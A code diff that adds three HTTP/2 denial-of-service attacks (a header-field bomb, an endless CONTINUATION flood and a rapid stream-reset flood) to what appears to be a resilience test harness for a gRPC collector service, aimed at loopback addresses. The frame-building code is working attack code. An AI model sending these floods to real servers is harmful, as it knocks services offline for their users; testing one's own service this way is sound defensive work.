@@ -29,6 +29,9 @@ import grpc
 import grpc.aio
 from h2.connection import H2Connection
 from h2.events import ConnectionTerminated, ResponseReceived, StreamReset
+from hpack import Encoder as HPack
+from hpack import NeverIndexedHeaderTuple
+from hyperframe.frame import ContinuationFrame, HeadersFrame, RstStreamFrame, SettingsFrame
 
 from bench.processes import next_line, own_channel, reply
 from isochrone_common.address import Address, parse_address
@@ -46,6 +49,8 @@ OWN_DEADLINE = "Deadline Exceeded"
 # A connection may have this many calls at once.
 STREAMS = 100
 JOIN_CONNECTIONS = 20
+BOMB_FIELDS = 12_000
+H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 SOURCES = [f"127.0.0.{number}" for number in range(2, 42)]
 # Answers that refuse a call; a collector that is too slow or away would have other ones.
 REFUSALS = frozenset(
@@ -141,6 +146,54 @@ def cookies(spec: AttackSpec) -> Attack:
     return lambda tally: _each(spec.count, lambda number: _request(spec, number, tally, head))
 
 
+def header_bombs(spec: AttackSpec) -> Attack:
+    """Heads of one frame that repeat a header field 12 000 times, with a byte each, on almost all streams."""
+    head = HeadersFrame(1, _head(HPack()) + b"\xbe" * BOMB_FIELDS, flags=["END_HEADERS"]).serialize()
+    return _http2(spec, [_on_stream(head, number) for number in range(STREAMS - 5)])
+
+
+def continuations(spec: AttackSpec) -> Attack:
+    """Heads without an end: 8 MB of CONTINUATION with one field after the other."""
+    fields = HPack().encode([NeverIndexedHeaderTuple("x", "y" * 100)], huffman=False) * 150
+    return _http2(
+        spec, [HeadersFrame(1, _head(HPack())).serialize(), *[ContinuationFrame(1, fields).serialize()] * 500]
+    )
+
+
+def resets(spec: AttackSpec) -> Attack:
+    """Calls that are reset at once."""
+    hpack = HPack()
+    call = HeadersFrame(1, _head(hpack), flags=["END_HEADERS"]).serialize()
+    again = HeadersFrame(1, _head(hpack), flags=["END_HEADERS"]).serialize()
+    reset = RstStreamFrame(1, error_code=8).serialize()
+    frames = [_on_stream(frame, number) for number in range(1, 20_000) for frame in (again, reset)]
+    return _http2(spec, [call, reset, *frames])
+
+
+def _head(hpack: HPack) -> bytes:
+    path = [(":method", "POST"), (":scheme", "https"), (":path", JOIN), (":authority", "collector")]
+    return hpack.encode([*path, ("content-type", "application/grpc"), ("te", "trailers"), ("x", "")])
+
+
+def _on_stream(frame: bytes, number: int) -> bytes:
+    """Return a frame with the identifier of the stream with this number, from 0."""
+    return frame[:5] + struct.pack(">I", 2 * number + 1) + frame[9:]
+
+
+def _http2(spec: AttackSpec, frames: Iterable[bytes]) -> Attack:
+    """Send frames on each of `count` connections, which then stay open."""
+    content = b"".join([H2_PREFACE, SettingsFrame().serialize(), *frames])
+
+    async def send(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> str:
+        writer.write(content)
+        while await reader.read(_READ_BYTES):
+            pass
+        return "closed"
+
+    grpc_address = parse_address(spec.grpc)
+    return lambda tally: _each(spec.count, lambda number: _over_tls(grpc_address, spec, number, tally, send))
+
+
 def guesses(spec: AttackSpec) -> Attack:
     """Tokens and credentials with the ids of real ones and random secrets."""
 
@@ -209,6 +262,9 @@ ATTACKS: dict[str, Callable[[AttackSpec], Attack]] = {
     "bombs": bombs,
     "large_fields": large_fields,
     "cookies": cookies,
+    "header_bombs": header_bombs,
+    "continuations": continuations,
+    "resets": resets,
     "guesses": guesses,
     "junk_joins": junk_joins,
     "plans": plans,
